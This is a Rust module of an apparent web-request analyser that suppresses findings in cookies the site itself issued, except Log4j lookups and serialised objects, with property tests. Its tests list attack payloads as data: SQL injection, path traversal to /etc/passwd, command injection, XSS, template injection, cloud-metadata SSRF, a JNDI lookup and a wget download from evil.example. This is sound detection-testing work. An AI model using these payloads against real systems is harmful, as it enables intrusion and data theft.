//! Cookies that the site itself has issued: what is found in one that comes back unchanged is the site's own.
//!
//! ```text
//! Set-Cookie: session=eyJuZXh0..; HttpOnly      an answer of the upstream, noted by the caller
//! Cookie: theme=dark; session=eyJuZXh0..        the same name and value: its findings are suppressed
//! ```
//!
//! The caller knows which cookies were issued ([`Issuer`]); it is asked only about cookies with findings. A
//! visitor's input may be in an issued cookie, where the application writes it there. Lookups of Log4j and
//! serialised objects therefore count: they act in any program that reads the cookie, and no other reader
//! judged them.

use std::fmt;
use std::sync::Arc;

use portcullis_types::Span;

use crate::{Analysis, Class, Finding};

/// Cookies of a header beyond which none counts as issued: each is compared with all others. Browsers keep
/// fewer for a site.
pub const ISSUED_COOKIES_MAX: usize = 256;
/// Classes of which findings count in issued cookies, too.
const COUNTED: [Class; 2] = [Class::Log4j, Class::Deserialization];
/// The id of the exception.
const ROW: &str = "issued-cookie";

/// The cookies that a site has issued.
pub trait Issuer: fmt::Debug + Send + Sync {
    /// True if an answer of the site has set this cookie to this value.
    fn has_issued(&self, name: &[u8], value: &[u8]) -> bool;
}

/// The cookies with findings of a request whose site keeps what it issues.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct CookieCounts {
    /// Cookies that the site has issued.
    pub issued: u32,
    /// Others.
    pub unknown: u32,
}

/// The cookies of one header field, split as browsers join them.
#[derive(Debug)]
pub(crate) struct Issued<'h> {
    header: &'h [u8],
    by: Option<Arc<dyn Issuer>>,
    /// Those that were issued, from the name to the end of the value, with the value's start. Found at first
    /// use.
    known: Option<Vec<(Span, usize)>>,
}

impl<'h> Issued<'h> {
    pub fn new(header: &'h [u8], by: Option<Arc<dyn Issuer>>) -> Issued<'h> {
        Issued { header, by, known: None }
    }

    /// True if the text from `start` to `end` is, or is in, a cookie that was issued. None: the site does not
    /// keep them.
    fn covers(&mut self, start: usize, end: usize) -> Option<bool> {
        self.by.as_ref()?;
        let is_in =
            |(cookie, _): &(Span, usize)| cookie.start as usize <= start && end <= cookie.end as usize;
        Some(self.known().iter().any(is_in))
    }

    /// The header from `start` on without the values that were issued; none if there are no such values.
    fn others(&mut self, start: usize) -> Option<Vec<u8>> {
        self.by.as_ref()?;
        let header = self.header;
        let known = self.known();
        if known.is_empty() {
            return None;
        }
        let (mut at, mut rest) = (start, Vec::with_capacity(header.len() - start));
        for (cookie, value) in known {
            rest.extend_from_slice(header.get(at..*value).unwrap_or_default());
            at = at.max(cookie.end as usize);
        }
        rest.extend_from_slice(&header[at..]);
        Some(rest)
    }

    fn known(&mut self) -> &[(Span, usize)] {
        let Issued { header, by, known } = self;
        known.get_or_insert_with(|| by.as_ref().map_or(Vec::new(), |by| find(header, by.as_ref())))
    }
}

/// The cookies that `by` has issued, but not those whose name another cookie has, too: which of them an
/// application reads is its own affair.
fn find(header: &[u8], by: &dyn Issuer) -> Vec<(Span, usize)> {
    let mut pieces: Vec<(Span, usize)> = Vec::new();
    let mut end = 0;
    for piece in header.split(|&b| b == b';') {
        let space = piece.iter().take_while(|b| matches!(b, b' ' | b'\t')).count();
        let start = end + space;
        end += piece.len();
        let name_bytes = memchr::memchr(b'=', &header[start..end]).unwrap_or(end - start);
        pieces.push((Span::new(start, end), start + name_bytes));
        end += 1;
    }
    if pieces.len() > ISSUED_COOKIES_MAX {
        return Vec::new();
    }
    let name = |(cookie, equals): &(Span, usize)| &header[cookie.start as usize..*equals];
    let is_issued = |piece: &&(Span, usize)| {
        let (cookie, equals) = **piece;
        let value = header.get(equals + 1..cookie.end as usize).unwrap_or_default();
        let is_same = |other: &&(Span, usize)| name(other).eq_ignore_ascii_case(name(piece));
        !value.is_empty() && by.has_issued(name(piece), value) && pieces.iter().filter(is_same).count() == 1
    };
    pieces.iter().filter(is_issued).map(|(cookie, equals)| (*cookie, equals + 1)).collect()
}

impl Analysis {
    /// Suppresses what is found in the cookies of the next request head that `by` has issued. To be set only
    /// where the request has one `Cookie` field.
    pub fn set_issuer(&mut self, by: Arc<dyn Issuer>) {
        self.issuer = Some(by);
    }

    /// The cookies with findings, where an issuer was set.
    pub fn cookie_counts(&self) -> CookieCounts {
        self.cookie_counts
    }

    /// The text from `start` to `end` of a header, of a cookie, has the values from number `before` on: they
    /// are suppressed if it was issued.
    pub(crate) fn excuse_issued(&mut self, before: usize, issued: &mut Issued<'_>, (start, end): (u32, u32)) {
        if self.values_len() <= before {
            return;
        }
        match issued.covers(start as usize, end as usize) {
            Some(true) => {
                self.cookie_counts.issued += 1;
                self.suppress_issued(before);
            }
            Some(false) => self.cookie_counts.unknown += 1,
            None => {}
        }
    }

    /// The header from `start` on, read as one text, has the values from number `before` on: where cookies in
    /// it were issued, what counts is found in the rest, which is returned.
    pub(crate) fn rest_of_issued(
        &mut self,
        before: usize,
        issued: &mut Issued<'_>,
        start: usize,
    ) -> Option<Vec<u8>> {
        if self.values_len() <= before {
            return None;
        }
        let rest = issued.others(start)?;
        self.suppress_issued(before);
        Some(rest)
    }

    fn suppress_issued(&mut self, before: usize) {
        let is_suppressed = |found: &&mut Finding| {
            found.value as usize >= before && found.suppressed_by.is_none() && !COUNTED.contains(&found.class)
        };
        self.findings_mut().iter_mut().filter(is_suppressed).for_each(|found| found.suppress(ROW));
    }
}

#[cfg(test)]
mod tests {
    use std::sync::LazyLock;

    use proptest::prelude::*;

    use super::*;
    use crate::{Detectors, Level};

    static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);

    /// Cookies that were issued.
    #[derive(Clone, Debug)]
    struct These(Vec<(String, String)>);

    impl Issuer for These {
        fn has_issued(&self, name: &[u8], value: &[u8]) -> bool {
            self.0.iter().any(|(known, text)| known.as_bytes() == name && text.as_bytes() == value)
        }
    }

    /// Whether a request with this header is blocked at `balanced`, and the counts.
    fn look(header: &str, issued: &[(&str, &str)]) -> (bool, CookieCounts) {
        let mut analysis = Analysis::new();
        if !issued.is_empty() {
            let own = |(name, value): &(&str, &str)| (name.to_string(), value.to_string());
            analysis.set_issuer(Arc::new(These(issued.iter().map(own).collect())));
        }
        let fields = [(&b"Cookie"[..], header.as_bytes())];
        analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
        let worst = analysis.worst(&DETECTORS, Level::Balanced);
        (worst.is_some_and(|worst| worst.blocks(Level::Balanced)), analysis.cookie_counts())
    }

    fn blocks(header: &str, issued: &[(&str, &str)]) -> bool {
        look(header, issued).0
    }

    /// Values that block, of most classes, as cookies can have them.
    const ATTACKS: [&str; 8] = [
        "http://10.0.0.5:9090/metrics",
        "1'%20union%20select%20user,password%20from%20users--%20-",
        "../../../../etc/passwd",
        "x|cat%20/etc/passwd",
        "%3Csvg%20onload%3Dalert(1)%3E",
        "{{7*7}}{{self.__init__.__globals__}}",
        "eyJuZXh0IjoiaHR0cDovLzEwLjAuMC41OjkwOTAvbWV0cmljcyJ9",
        "%7B%22next%22:%22http://169.254.169.254/latest/meta-data/%22%7D",
    ];

    proptest! {
        /// An issued cookie passes wherever it stands. Whatever else is done to it, it is judged as ever.
        #[test]
        fn only_what_was_issued_is_suppressed(
            attack in prop::sample::select(&ATTACKS[..]),
            others in prop::collection::vec(("[a-z]{3,8}", "[a-z0-9]{0,12}"), 0..6),
            at in any::<prop::sample::Index>(),
            change in 0..6,
        ) {
            let name = "last_Page";
            let mut pieces: Vec<String> =
                others.iter().map(|(name, value)| format!("{name}={value}")).collect();
            let at = at.index(pieces.len() + 1);
            pieces.insert(at, format!("{name}={attack}"));
            let header = pieces.join("; ");
            prop_assert!(blocks(&header, &[]));
            let issued = [(name, attack)];
            let (is_blocked, counts) = look(&header, &issued);
            prop_assert!(!is_blocked && counts.issued == 1, "{header} {counts:?}");
            pieces[at] = match change {
                0 => format!("last_page={attack}"),
                1 => format!("{name}={attack}x"),
                2 => format!("{name}= {attack}"),
                3 => format!("{name}={attack}; {name}=1"),
                4 => format!("LAST_PAGE=1; {name}={attack}"),
                _ => format!("{name}={}{attack}", attack.chars().next().unwrap()),
            };
            let header = pieces.join("; ");
            prop_assert_eq!(blocks(&header, &issued), blocks(&header, &[]), "{}", header);
        }

        /// Issued cookies hide nothing that stands beside them or goes on behind them.
        #[test]
        fn what_stands_beside_an_issued_cookie_counts(
            own in prop::sample::select(&ATTACKS[..]),
            tail in prop::sample::select(&["cat /etc/passwd", "wget http://evil.example/x -O /tmp/x"][..]),
            attack in prop::sample::select(&ATTACKS[..]),
        ) {
            let issued = [("own", own)];
            let (beside, behind) = (format!("own={own}; a={attack}"), format!("own={own};{tail}"));
            prop_assert!(blocks(&beside, &issued), "{}", beside);
            prop_assert!(blocks(&format!("own=abc;{tail}"), &[]), "{}", tail);
            prop_assert!(blocks(&behind, &issued), "{}", behind);
        }
    }

    /// The whole header is read where a value has quotes or brackets: what the site wrote there does not
    /// count either, whatever stands beside it.
    #[test]
    fn documents_in_cookies_pass_in_any_company() {
        let prefs = r#"{"next":"http://10.0.0.5:9090/metrics","q":"it's"}"#;
        for header in [
            format!("prefs={prefs}"),
            format!("prefs={prefs}; theme=dark"),
            format!("flag; prefs={prefs}; theme=\"a b\""),
            format!("theme=dark; prefs={prefs}; flag"),
        ] {
            assert!(blocks(&header, &[]), "{header}");
            assert!(!blocks(&header, &[("prefs", prefs)]), "{header}");
        }
        // Alone, with a comma and a space, rules and servers of Java split it.
        let listed = r#"["http://10.0.0.5:9090/metrics", "http://10.0.0.5:9091/metrics"]"#;
        assert!(!blocks(&format!("prefs={listed}"), &[("prefs", listed)]));
    }

    #[test]
    fn what_acts_in_whoever_reads_it_counts() {
        for value in [
            "${jndi:ldap://evil.example/a}",
            "O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        ] {
            let header = format!("lang={value}");
            assert_eq!(blocks(&header, &[("lang", value)]), blocks(&header, &[]), "{value}");
        }
        assert!(blocks("lang=${jndi:ldap://evil.example/a}", &[("lang", "${jndi:ldap://evil.example/a}")]));
    }

    #[test]
    fn a_header_of_very_many_cookies_is_judged_as_ever() {
        let many = "a=1; ".repeat(ISSUED_COOKIES_MAX);
        let header = format!("{many}last_page={}", ATTACKS[0]);
        assert!(blocks(&header, &[("last_page", ATTACKS[0])]));
    }
}
